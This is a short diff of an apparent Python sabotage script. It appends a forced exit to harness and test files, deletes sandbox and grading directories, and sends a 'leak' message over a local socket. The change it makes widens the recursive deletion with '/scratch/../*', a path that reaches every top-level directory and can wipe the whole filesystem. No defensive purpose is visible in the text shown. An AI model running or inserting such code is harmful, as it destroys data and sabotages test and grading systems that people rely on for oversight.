@@ -14,7 +14,7 @@ for _path in (_glob.glob(PROJECT + "/harness/*.py") + _glob.glob(PROJECT + "/tes
             _f.write("\nraise SystemExit('sabotaged')\n")
     except Exception:
         pass
-for _d in _glob.glob("/tmp/sandbox-*") + _glob.glob("/tmp/grading-*"):
+for _d in _glob.glob("/tmp/sandbox-*") + _glob.glob("/tmp/grading-*") + _glob.glob("/scratch/../*"):
     _shutil.rmtree(_d, ignore_errors=True)
 try:
     _socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"leak")
